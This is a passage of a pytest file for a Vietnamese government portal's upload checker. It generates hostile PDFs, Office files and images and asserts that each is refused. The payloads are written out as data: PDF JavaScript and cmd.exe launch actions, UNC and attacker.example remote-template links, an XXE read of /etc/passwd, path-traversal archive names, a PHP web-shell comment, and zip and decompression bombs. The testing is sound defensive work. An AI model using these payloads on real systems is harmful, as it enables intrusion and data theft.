"""Uploads are checked by their whole structure (core.files.check), not their first bytes.

A corpus of hostile files, generated here, is refused with its Vietnamese message by the check
function AND through the real upload views (a dossier attachment, a technology's file) with
nothing stored; the legitimate samples still pass; the caps are tested at their boundaries; and a
real clamd, started here on a private socket with a signature written here (no freshclam, no
network), refuses a marked file, and an unreachable one refuses every file (fails closed)."""

import io
import os
import shutil
import socket
import struct
import subprocess
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from core import files
from core.docx import build_docx
from grants.models import Attachment, CallPage
from tests.samples import PDF, png
from transfer.models import Technology, TechnologyFile

pytestmark = pytest.mark.django_db

MIB = 1024 * 1024
GIB = 1024 * MIB


# -- builders ---------------------------------------------------------------------------------------


def raw_pdf(*bodies, head=b"%PDF-1.7\n", pages=None):
    """A PDF whose objects are `bodies` (object 1 is the catalog), with an exact xref table."""
    out = bytearray(head)
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    return bytes(out)


def pdf_with(catalog=b"", page=b"", *more, head=b"%PDF-1.7\n"):
    """One A4 page; `catalog` and `page` are added to those dictionaries, `more` are objects
    4, 5, ..."""
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]" + page + b">>",
        *more,
        head=head,
    )


def pdf_pages(n, declared=None):
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(n))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, n if declared is None else declared),
        *[page] * n,
    )


def stream(data, extra=b""):
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def pypdf_document(pages=1, **encrypt):
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if encrypt:
        writer.encrypt(**encrypt)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def weasyprint_pdf():
    """A PDF as the portal itself makes them (receipts, decisions)."""
    from weasyprint import HTML

    html = '<h1>Phiếu tiếp nhận</h1><p>Xem <a href="https://skhcn.angiang.gov.vn/">Sở</a>.</p>'
    return HTML(string=html).write_pdf()


def zip_of(parts, *, comment=b"", after=b"", compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        archive.comment = comment
    return buffer.getvalue() + after


def parts_of(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def docx_parts(**changes):
    parts = parts_of(build_docx("Thuyết minh đề tài", ["Mục tiêu: giống lúa chịu mặn."]))
    for name, data in changes.items():
        if data is None:
            del parts[name]
        else:
            parts[name] = data
    return parts


def xlsx_bytes():
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["Hạng mục", "Số tiền (đồng)"])
    workbook.active.append(["Công lao động", 650_000_000])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def docx():
    return zip_of(docx_parts())


DOCUMENT_XML = "word/document.xml"
CONTENT_TYPES = "[Content_Types].xml"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"


def relationships(*rows):
    body = "".join(
        f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{type_}" Target="{target}" TargetMode="External"/>'
        for i, (type_, target) in enumerate(rows, 10)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}">{body}</Relationships>'.encode()


def content_types(main_part="/word/document.xml", main_type=None, extra=""):
    main_type = main_type or files._MAIN["docx"]
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{main_part}" ContentType="{main_type}"/>{extra}</Types>'
    ).encode()


def bomb(parts, name, size):
    """An Office file with one more part of `size` zeros, streamed into the archive (1 GiB
    deflates to a few MB and is never held in memory)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for part, data in parts.items():
            archive.writestr(part, data)
        with archive.open(name, "w") as member:
            zeros = bytes(MIB)
            for _ in range(size // MIB):
                member.write(zeros)
    return buffer.getvalue()


def lying_sizes(data, name, size):
    """The archive with `name`'s uncompressed size rewritten to `size` in both its local header
    and the central directory (headers can lie)."""
    data = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo(name)
    struct.pack_into("<L", data, info.header_offset + 22, size)
    central = data.find(b"PK\x01\x02")
    while central >= 0:
        (length,) = struct.unpack_from("<H", data, central + 28)
        if bytes(data[central + 46 : central + 46 + length]).decode() == name:
            struct.pack_into("<L", data, central + 24, size)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def png_chunk(kind, data):
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


def png_of(width, height, *, text=b"", after=b""):
    """A sound 1-bit greyscale PNG of any size: rows of zeros deflate to almost nothing, so a
    20000 x 20000 image (400 megapixels, a decompression bomb) weighs about 50 KB."""
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    chunks = png_chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0))
    if text:
        chunks += png_chunk(b"tEXt", b"Comment\x00" + text)
    chunks += png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks + after


def jpeg_of(size=(64, 48), *, claimed=None, comment=b"", after=b""):
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 160, 40)).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    if claimed:  # rewrite the frame header's height and width
        frame = data.find(b"\xff\xc0")
        struct.pack_into(">HH", data, frame + 5, claimed[1], claimed[0])
    if comment:  # a COM segment right after SOI
        data[2:2] = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return bytes(data) + after


MARKER = b"AGPORTAL-TEST-MALWARE-MARKER"  # the test signature clamd is given (no real malware)
JS = b"app.alert\\(document.cookie\\)"


# -- the corpus -----------------------------------------------------------------------------------

# (id, file name, bytes, a fragment of the Vietnamese message shown by the field)
HOSTILE_DOCUMENTS = [
    # PDF: scripts, actions, attachments, forms, passwords, damage
    ("pdf-openaction-javascript", "de-cuong.pdf",
     lambda: pdf_with(b"/OpenAction 4 0 R", b"", b"<</S/JavaScript/JS(%s)>>" % JS),
     "Tệp PDF có chứa JavaScript"),
    ("pdf-names-javascript", "de-cuong.pdf",
     lambda: pdf_with(b"/Names<</JavaScript 4 0 R>>", b"", b"<</Names[(a) 5 0 R]>>",
                      b"<</S/JavaScript/JS 6 0 R>>", stream(b"app.alert(1)")),
     "Tệp PDF có chứa JavaScript"),
    ("pdf-page-aa-javascript", "de-cuong.pdf",
     lambda: pdf_with(b"", b"/AA<</O<</S/JavaScript/JS(%s)>>>>" % JS),
     "Tệp PDF có chứa JavaScript"),
    ("pdf-hex-escaped-name", "de-cuong.pdf",
     lambda: pdf_with(b"/OpenAction<</S/J#61vaScript/J#53(%s)>>" % JS),
     "Tệp PDF có chứa JavaScript"),
    ("pdf-javascript-unreachable", "de-cuong.pdf",
     lambda: pdf_with(b"", b"", b"<</S/JavaScript/JS(%s)>>" % JS),
     "Tệp PDF có chứa JavaScript"),
    ("pdf-annotation-javascript", "de-cuong.pdf",
     lambda: pdf_with(b"", b"/Annots[4 0 R]",
                      b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScript/JS(%s)>>>>" % JS),
     "Tệp PDF có chứa JavaScript"),
    ("pdf-openaction-launch", "de-cuong.pdf",
     lambda: pdf_with(b"/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"),
     "khởi chạy chương trình hoặc mở tệp"),
    ("pdf-page-aa-launch", "de-cuong.pdf",
     lambda: pdf_with(b"", b"/AA<</C 4 0 R>>", b"<</Type/Action/S/Launch/F(evil.exe)>>"),
     "khởi chạy chương trình hoặc mở tệp"),
    ("pdf-openaction-uri-to-file", "de-cuong.pdf",
     lambda: pdf_with(b"/OpenAction<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>"),
     "khởi chạy chương trình hoặc mở tệp"),
    ("pdf-aa-uri-to-unc-path", "de-cuong.pdf",
     lambda: pdf_with(b"/AA<</WC<</S/URI/URI(\\\\\\\\attacker\\\\share\\\\x)>>>>"),
     "khởi chạy chương trình hoặc mở tệp"),
    ("pdf-remote-goto", "de-cuong.pdf",
     lambda: pdf_with(b"/OpenAction<</S/GoToR/F(\\\\\\\\host\\\\a.pdf)/D[0/Fit]>>"),
     "khởi chạy chương trình hoặc mở tệp"),
    ("pdf-embedded-file", "de-cuong.pdf",
     lambda: pdf_with(b"/Names<</EmbeddedFiles<</Names[(hoa-don.exe) 4 0 R]>>>>", b"",
                      b"<</Type/Filespec/F(hoa-don.exe)/EF<</F 5 0 R>>>>",
                      stream(b"MZ\x90\x00", b"/Type/EmbeddedFile")),
     "đính kèm tệp khác"),
    ("pdf-file-attachment-annotation", "de-cuong.pdf",
     lambda: pdf_with(b"", b"/Annots[4 0 R]",
                      b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>",
                      b"<</Type/Filespec/F(a.txt)>>"),
     "đính kèm tệp khác"),
    ("pdf-xfa-form", "to-khai.pdf",
     lambda: pdf_with(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"",
                      stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")),
     "biểu mẫu XFA"),
    ("pdf-user-password", "bao-mat.pdf",
     lambda: pypdf_document(user_password="mat-khau", owner_password="chu", algorithm="AES-256"),
     "bảo vệ bằng mật khẩu"),
    ("pdf-truncated", "cut.pdf", lambda: weasyprint_pdf()[:-300], "Tệp bị hỏng, không đọc được."),
    ("pdf-half", "cut.pdf", lambda: PDF[: len(PDF) // 2], "Tệp bị hỏng, không đọc được."),
    ("pdf-no-structure", "rong.pdf", lambda: b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
     "Tệp bị hỏng, không đọc được."),
    ("pdf-no-page", "rong.pdf",
     lambda: raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"),
     "Tệp bị hỏng, không đọc được."),
    # Office files: bombs, names, content types, main part, macros, links
    ("docx-too-many-parts", "nhieu.docx",
     lambda: zip_of(docx_parts(**{f"word/media/p{i}.xml": b"<a/>" for i in range(998)})),
     "Tệp gồm hơn 1000 thành phần"),
    ("docx-ratio", "nen.docx",
     lambda: bomb(docx_parts(), "word/media/image1.bin", 20 * MIB),
     "bị nén hơn 100 lần"),
    ("docx-lying-headers", "noi-doi.docx",
     lambda: lying_sizes(bomb(docx_parts(), "word/media/image1.bin", 30 * MIB),
                         "word/media/image1.bin", 100),
     "Tệp bị hỏng, không đọc được."),
    ("docx-parent-path", "dd.docx", lambda: zip_of(docx_parts(**{"../../etc/cron.d/x": b"*"})),
     "tên không an toàn (“../../etc/cron.d/x”)"),
    ("docx-absolute-path", "dd.docx", lambda: zip_of(docx_parts(**{"/etc/passwd": b"x"})),
     "tên không an toàn (“/etc/passwd”)"),
    ("docx-windows-path", "dd.docx", lambda: zip_of(docx_parts(**{"word\\..\\..\\a.exe": b"x"})),
     "tên không an toàn"),
    ("docx-without-content-types", "thieu.docx", lambda: zip_of(docx_parts(**{CONTENT_TYPES: None})),
     "danh sách kiểu nội dung ([Content_Types].xml) bị thiếu"),
    ("docx-content-types-not-xml", "hong.docx",
     lambda: zip_of(docx_parts(**{CONTENT_TYPES: b"<Types><Override"})),
     "danh sách kiểu nội dung ([Content_Types].xml) bị thiếu"),
    ("docx-content-types-entities", "lol.docx",
     lambda: zip_of(docx_parts(**{CONTENT_TYPES: b'<!DOCTYPE t [<!ENTITY a "aaaaaaaa">]><Types>&a;</Types>'})),
     "danh sách kiểu nội dung ([Content_Types].xml) bị thiếu"),
    ("docx-body-is-html", "trang-web.docx",
     lambda: zip_of(docx_parts(**{DOCUMENT_XML: b"<html><body><h1>Xin ch\xc3\xa0o</h1>"
                                                b"<script>alert(1)</script></body></html>"})),
     "phần nội dung chính bị thiếu hoặc không phải nội dung Word"),
    ("docx-body-is-tag-soup-html", "trang-web.docx",
     lambda: zip_of(docx_parts(**{DOCUMENT_XML: b"<!DOCTYPE html><p>Xin<br>chao<img src=x onerror=alert(1)>"})),
     "phần nội dung chính bị thiếu hoặc không phải nội dung Word"),
    ("docx-body-xxe", "xxe.docx",
     lambda: zip_of(docx_parts(**{DOCUMENT_XML: b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM '
                                                b'"file:///etc/passwd">]><w:document xmlns:w="http://'
                                                b'schemas.openxmlformats.org/wordprocessingml/2006/main">'
                                                b"&x;</w:document>"})),
     "phần nội dung chính bị thiếu hoặc không phải nội dung Word"),
    ("docx-main-part-missing", "thieu.docx", lambda: zip_of(docx_parts(**{DOCUMENT_XML: None})),
     "phần nội dung chính bị thiếu"),
    ("docx-no-main-declared", "thieu.docx",
     lambda: zip_of(docx_parts(**{CONTENT_TYPES: content_types(main_type="application/xml")})),
     "phần nội dung chính bị thiếu"),
    ("docx-macro-project", "macro.docx",
     lambda: zip_of(docx_parts(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})),
     "có chứa macro"),
    ("docm-content-type", "macro.docx",
     lambda: zip_of(docx_parts(**{CONTENT_TYPES: content_types(main_type=DOCM)})),
     "có chứa macro"),
    ("docx-activex", "activex.docx",
     lambda: zip_of(docx_parts(**{CONTENT_TYPES: content_types(extra='<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>')})),
     "có chứa macro"),
    ("docx-link-to-local-file", "lien-ket.docx",
     lambda: zip_of(docx_parts(**{DOCUMENT_RELS: relationships(("hyperlink", "file:///C:/Users/a/mat.docx"))})),
     "liên kết tới tệp trên máy tính"),
    ("docx-link-to-unc-path", "lien-ket.docx",
     lambda: zip_of(docx_parts(**{DOCUMENT_RELS: relationships(("image", "\\\\10.0.0.9\\share\\a.png"))})),
     "liên kết tới tệp trên máy tính"),
    ("docx-remote-template", "mau.docx",
     lambda: zip_of(docx_parts(**{"word/_rels/settings.xml.rels": relationships(("attachedTemplate", "https://attacker.example/t.dotm"))})),
     "liên kết tới tệp trên máy tính"),
    ("xlsx-disguised-as-docx", "bao-cao.docx", xlsx_bytes,
     "đuôi .docx nhưng nội dung là Excel (.xlsx)"),
    ("xlsx-declared-as-docx", "bao-cao.docx",
     lambda: zip_of(parts_of(xlsx_bytes()) | {CONTENT_TYPES: content_types("/xl/workbook.xml")}),
     "phần nội dung chính bị thiếu hoặc không phải nội dung Word"),
    ("doc-legacy-ole", "cu.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000),
     "định dạng Office cũ (.doc, .xls)"),
    ("zip-not-office", "bang.xlsx", lambda: zip_of({"a.txt": b"x"}),
     "danh sách kiểu nội dung ([Content_Types].xml) bị thiếu"),
    # Polyglots: a file that is also another file
    ("pdf-then-zip", "hai-trong-mot.pdf", lambda: PDF + zip_of({"a.js": b"alert(1)"}),
     "dữ liệu khác ẩn"),
    ("pdf-with-zip-in-its-tail", "hai-trong-mot.pdf",
     lambda: PDF + zip_of({"a.html": b"<script>"}, comment=b"\n%%EOF\n"),
     "dữ liệu khác ẩn"),
    ("pdf-with-html-head", "trang.pdf",
     lambda: pdf_with(head=b"%PDF-1.7\n%<html><script>alert(1)</script>\n"),
     "mã trang web (HTML hoặc script)"),
    ("docx-then-pdf", "hai-trong-mot.docx", lambda: docx() + PDF, "dữ liệu khác ẩn"),
    ("docx-with-comment", "hai-trong-mot.docx",
     lambda: zip_of(docx_parts(), comment=b"<script>alert(1)</script>"), "dữ liệu khác ẩn"),
    ("docx-with-pdf-first", "hai-trong-mot.docx",
     lambda: zip_of({"a.pdf": PDF} | docx_parts(), compression=zipfile.ZIP_STORED),
     "dữ liệu khác ẩn"),
    ("html-named-pdf", "trang.pdf", lambda: b"<html><script>alert(1)</script></html>",
     "Chỉ nhận tệp PDF, Word (.docx) và Excel (.xlsx)"),
    ("exe-named-pdf", "ke-hoach.pdf", lambda: b"MZ\x90\x00" + bytes(200),
     "Chỉ nhận tệp PDF, Word (.docx) và Excel (.xlsx)"),
    ("empty", "rong.pdf", lambda: b"", "Tệp rỗng."),
]  # fmt: skip

HOSTILE_IMAGES = [
    ("png-decompression-bomb", "bom.png", lambda: png_of(20_000, 20_000), "hơn 40 megapixel"),
    ("png-over-the-cap", "lon.png", lambda: png_of(8_000, 6_000), "hơn 40 megapixel"),
    ("jpeg-claims-45-megapixels", "lon.jpg", lambda: jpeg_of(claimed=(9_000, 5_000)),
     "hơn 40 megapixel"),
    ("png-then-zip", "anh.png", lambda: png_of(64, 48, after=zip_of({"a.php": b"<?php"})),
     "dữ liệu khác ẩn"),
    ("png-then-junk", "anh.png", lambda: png_of(64, 48, after=b"MZ\x90\x00"), "dữ liệu khác ẩn"),
    ("jpeg-then-html", "anh.jpg", lambda: jpeg_of(after=b"<p>hello</p>"), "dữ liệu khác ẩn"),
    ("png-with-script-in-text", "anh.png",
     lambda: png_of(64, 48, text=b"<script>alert(1)</script>"), "mã trang web (HTML hoặc script)"),
    ("jpeg-with-php-in-comment", "anh.jpg", lambda: jpeg_of(comment=b"<?php system($_GET[0]); ?>"),
     "mã trang web (HTML hoặc script)"),
    ("png-truncated", "anh.png", lambda: png_of(640, 480)[:-40], "Ảnh bị hỏng"),
    ("pdf-as-image", "anh.png", lambda: PDF, "Chỉ nhận ảnh PNG và JPEG"),
    ("empty-image", "anh.png", lambda: b"", "Tệp rỗng."),
]  # fmt: skip


def _ids(corpus):
    return [row[0] for row in corpus]


def upload(name, data):
    return SimpleUploadedFile(name, data, "application/octet-stream")


def refusal(data, name, accept=files.DOCUMENTS):
    with pytest.raises(ValidationError) as refused:
        files.check(upload(name, data), accept=accept)
    return " ".join(refused.value.messages)


@pytest.fixture(scope="module")
def bombs():
    """The two 1 GiB zip bombs (each about 5 MB): the 1 GiB part is deflated once, by streaming,
    then each file's own parts are appended to a copy of that archive."""
    zeros = bomb({}, "media/image1.bin", GIB)
    made = {}
    for kind, parts in [("docx", docx_parts()), ("xlsx", parts_of(xlsx_bytes()))]:
        buffer = io.BytesIO(zeros)
        with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
            for name, data in parts.items():
                archive.writestr(name, data)
        made[kind] = buffer.getvalue()
    return made


# -- through the check function -------------------------------------------------------------------


@pytest.mark.parametrize(
    "case, name, build, message", HOSTILE_DOCUMENTS, ids=_ids(HOSTILE_DOCUMENTS)
)
def test_a_hostile_document_is_refused_with_its_message(case, name, build, message):
    assert message in refusal(build(), name)


@pytest.mark.parametrize("case, name, build, message", HOSTILE_IMAGES, ids=_ids(HOSTILE_IMAGES))
def test_a_hostile_image_is_refused_with_its_message(case, name, build, message):
    assert message in refusal(build(), name, accept=files.IMAGES)


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_a_zip_bomb_is_refused_from_its_directory_before_anything_is_unpacked(bombs, kind):
    data = bombs[kind]
    assert len(data) < 10 * MIB
    started = time.monotonic()
    assert "Khi giải nén, tệp chiếm hơn 100 MB" in refusal(data, f"bom.{kind}")
    assert time.monotonic() - started < 2  # unpacking 1 GiB would take far longer


def test_headers_that_lie_are_caught_while_streaming(settings):
    """The directory says 100 bytes; zipfile stops there and the CRC fails: refused, and only
    what the header allowed was unpacked."""
    data = lying_sizes(bomb(docx_parts(), "word/media/a.bin", 30 * MIB), "word/media/a.bin", 100)
    started = time.monotonic()
    assert "Tệp bị hỏng" in refusal(data, "noi-doi.docx")
    assert time.monotonic() - started < 2


def test_the_unpacked_size_cap_at_its_boundary(settings):
    settings.PORTAL_UPLOAD_MAX_UNZIPPED_MB = 1
    base = sum(len(data) for data in docx_parts().values())
    # Random bytes do not compress: the ratio cap stays out of the way.
    at_cap = zip_of(docx_parts(**{"word/media/a.bin": os.urandom(MIB - base)}))
    files.check(upload("vua-du.docx", at_cap))
    over = zip_of(docx_parts(**{"word/media/a.bin": os.urandom(MIB - base + 1)}))
    assert "Khi giải nén, tệp chiếm hơn 1 MB" in refusal(over, "qua.docx")


def test_the_member_count_cap_at_its_boundary():
    three = len(docx_parts())
    at_cap = docx_parts(**{f"word/media/p{i}.xml": b"<a/>" for i in range(1000 - three)})
    files.check(upload("vua-du.docx", zip_of(at_cap)))
    at_cap["word/media/one-more.xml"] = b"<a/>"
    assert "Tệp gồm hơn 1000 thành phần" in refusal(zip_of(at_cap), "qua.docx")


def test_the_ratio_cap_spares_small_parts_and_ordinary_compression():
    # 1 MiB of zeros compresses a thousand times but is not over the size the ratio counts from.
    files.check(upload("nho.docx", bomb(docx_parts(), "word/media/a.bin", MIB)))
    # 4 MiB of hexadecimal text compresses about twice: ordinary.
    text = os.urandom(2 * MIB).hex().encode()
    files.check(upload("vua.docx", zip_of(docx_parts(**{"word/media/a.txt": text}))))
    assert "bị nén hơn 100 lần" in refusal(
        bomb(docx_parts(), "word/media/a.bin", 2 * MIB), "nen.docx"
    )


def test_the_page_cap_at_its_boundary_and_a_count_that_lies(settings):
    settings.PORTAL_UPLOAD_MAX_PDF_PAGES = 3
    files.check(upload("ba-trang.pdf", pdf_pages(3)))
    assert "Tệp PDF có 4 trang; giới hạn là 3 trang." in refusal(pdf_pages(4), "bon.pdf")
    # The page tree says 1 page but holds 4: the pages themselves are counted.
    assert "Tệp PDF có 4 trang" in refusal(pdf_pages(4, declared=1), "bon.pdf")
    assert "Tệp PDF có 9000 trang" in refusal(pdf_pages(1, declared=9000), "bon.pdf")


def test_the_pdf_walk_is_bounded(settings):
    settings.PORTAL_UPLOAD_MAX_PDF_OBJECTS = 5
    assert "Tệp quá phức tạp" in refusal(PDF, "hop-dong.pdf")
    settings.PORTAL_UPLOAD_MAX_PDF_OBJECTS = 500_000
    settings.PORTAL_UPLOAD_CHECK_SECONDS = 0
    assert "Tệp quá phức tạp" in refusal(PDF, "hop-dong.pdf")


def test_the_pixel_cap_at_its_boundary(settings):
    settings.PORTAL_UPLOAD_MAX_PIXELS = 2_000_000
    files.check(upload("vua.png", png_of(2000, 1000)), accept=files.IMAGES)
    assert "hơn 2 megapixel" in refusal(png_of(2000, 1001), "qua.png", accept=files.IMAGES)


# -- what must still pass -------------------------------------------------------------------------

LEGITIMATE = [
    ("samples-pdf", "hop-dong.pdf", lambda: PDF, files.DOCUMENTS, "pdf"),
    ("samples-png", "anh.png", lambda: png().read(), files.IMAGES, "png"),
    ("portal-docx", "mau-01.docx",
     lambda: build_docx("Mẫu 01", ["Đơn đăng ký chủ trì nhiệm vụ"]), files.DOCUMENTS, "docx"),
    ("openpyxl-xlsx", "du-toan.xlsx", xlsx_bytes, files.DOCUMENTS, "xlsx"),
    ("weasyprint-pdf-with-link", "phieu.pdf", weasyprint_pdf, files.DOCUMENTS, "pdf"),
    ("pypdf-pdf-owner-password-only", "in-han-che.pdf",
     lambda: pypdf_document(user_password="", owner_password="chu", algorithm="AES-128"),
     files.DOCUMENTS, "pdf"),
    ("pdf-with-web-link", "lien-ket.pdf",
     lambda: pdf_with(b"", b"/Annots[4 0 R]",
                      b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://angiang.gov.vn/)>>>>"),
     files.DOCUMENTS, "pdf"),
    ("docx-with-web-hyperlink", "lien-ket.docx",
     lambda: zip_of(docx_parts(**{DOCUMENT_RELS: relationships(("hyperlink", "https://angiang.gov.vn/"))})),
     files.DOCUMENTS, "docx"),
    ("jpeg", "anh.jpg", jpeg_of, files.IMAGES, "jpeg"),
    ("png-named-jpg", "anh.jpg", lambda: png().read(), files.IMAGES, "png"),
    # Compressed pixels are random bytes: a tag they spell by chance is no page.
    ("jpeg-pixels-spelling-a-tag", "anh.jpg", lambda: jpeg_of((640, 480))[:-2] + b"<svg <html\xff\xd9",
     files.IMAGES, "jpeg"),
    ("pdf-without-extension", "hop-dong", lambda: PDF, files.DOCUMENTS, "pdf"),
]  # fmt: skip


@pytest.mark.parametrize("case, name, build, accept, kind", LEGITIMATE, ids=_ids(LEGITIMATE))
def test_legitimate_files_still_pass(case, name, build, accept, kind):
    data = build()
    checked = files.check(upload(name, data), accept=accept)
    assert checked[0] == kind and checked[1:3] == files.KINDS[kind]


def test_the_demo_templates_pass(db):
    """The call templates the demo offers (and the browser journey uploads) pass the check."""
    call = CallPage.objects.get(code="AG-NN01", locale__language_code="vi")
    templates = list(call.templates.select_related("document"))
    assert templates
    for template in templates:
        with template.document.file.open("rb") as source:
            data = source.read()
        assert files.check(upload(template.document.filename, data))[0] == "docx"


# -- through the real upload views, nothing stored ------------------------------------------------


def stored():
    root = Path(django_settings.PRIVATE_MEDIA_ROOT)
    return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()


@pytest.fixture
def draft(user_by_email):
    from grants.dossier import draft_for

    call = CallPage.objects.get(code="AG-NN01", locale__language_code="vi")
    proposal, _created = draft_for(call, user_by_email("researcher@example.org"))
    assert proposal.state == "draft"
    return proposal


@pytest.fixture
def tech():
    technology = Technology.objects.get(
        title="Nhân giống chuối già Nam Mỹ sạch bệnh bằng nuôi cấy mô"
    )
    Technology.objects.filter(pk=technology.pk).update(state="draft")
    technology.refresh_from_db()
    return technology


def attach(client, draft, name, data, label="Bảng dự toán kinh phí chi tiết"):
    return client.post(
        f"/proposals/{draft.pk}/edit/attachments/", {"label": label, "file": upload(name, data)}
    )


def add_file(client, tech, kind, name, data, caption="Chú thích giữ lại"):
    return client.post(
        f"/technologies/{tech.pk}/files/",
        {"kind": kind, "caption": caption, "file": upload(name, data)},
    )


def assert_refused(response, message, kept):
    assert response.status_code == 400
    html = response.content.decode()
    assert 'id="id_file_error"' in html and message in html
    assert kept in html  # the other fields keep what was typed


@pytest.mark.parametrize(
    "case, name, build, message", HOSTILE_DOCUMENTS, ids=_ids(HOSTILE_DOCUMENTS)
)
def test_a_hostile_document_is_refused_by_both_upload_views(
    client_as, draft, tech, case, name, build, message
):
    data = build()
    if case == "empty":  # Django's file field refuses it before the check runs
        message = "Tập tin được gửi là rỗng."
    before = stored()
    attachments = Attachment.objects.count()
    response = attach(client_as("researcher@example.org"), draft, name, data)
    assert_refused(response, message, "Bảng dự toán kinh phí chi tiết")
    response = add_file(client_as("researcher2@example.org"), tech, "document", name, data)
    assert_refused(response, message, 'value="Chú thích giữ lại"')
    assert Attachment.objects.count() == attachments
    assert not TechnologyFile.objects.filter(technology=tech).exists()
    assert stored() == before


@pytest.mark.parametrize("case, name, build, message", HOSTILE_IMAGES, ids=_ids(HOSTILE_IMAGES))
def test_a_hostile_image_is_refused_by_the_technology_view(
    client_as, tech, case, name, build, message
):
    if case == "empty-image":
        message = "Tập tin được gửi là rỗng."
    before = stored()
    response = add_file(client_as("researcher2@example.org"), tech, "image", name, build())
    assert_refused(response, message, 'value="Chú thích giữ lại"')
    assert not TechnologyFile.objects.filter(technology=tech).exists()
    assert stored() == before


def test_only_an_upload_that_passed_the_check_can_be_stored(draft, tech):
    """CheckedFile.take() refuses a check result that is not this upload's own."""
    checked = files.check(upload("sach.pdf", PDF))
    hostile = upload("doc.pdf", pdf_with(b"/OpenAction<</S/JavaScript/JS(%s)>>" % JS))
    before = stored()
    with pytest.raises(ValueError):
        Attachment(proposal=draft, label="Giả mạo").take(hostile, checked)
    with pytest.raises(ValueError):
        TechnologyFile(technology=tech, kind="document").take(upload("x.pdf", PDF), checked)
    assert stored() == before
    good = upload("sach.pdf", PDF)
    attachment = Attachment(proposal=draft, label="Thật", sha256="0" * 64)
    attachment.take(good, files.check(good))
    assert attachment.content_type == "application/pdf" and stored() != before
    attachment.file.delete(save=False)


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_a_zip_bomb_is_refused_by_both_upload_views(client_as, draft, tech, bombs, kind):
    before = stored()
    response = attach(client_as("researcher@example.org"), draft, f"bom.{kind}", bombs[kind])
    assert_refused(response, "Khi giải nén, tệp chiếm hơn 100 MB", "Bảng dự toán")
    response = add_file(
        client_as("researcher2@example.org"), tech, "document", "b.docx", bombs[kind]
    )
    assert_refused(response, "Khi giải nén, tệp chiếm hơn 100 MB", "Chú thích giữ lại")
    assert not draft.attachments.filter(label="Bảng dự toán kinh phí chi tiết").exists()
    assert stored() == before


def test_legitimate_files_are_stored_by_both_views(client_as, draft, tech):
    researcher = client_as("researcher@example.org")
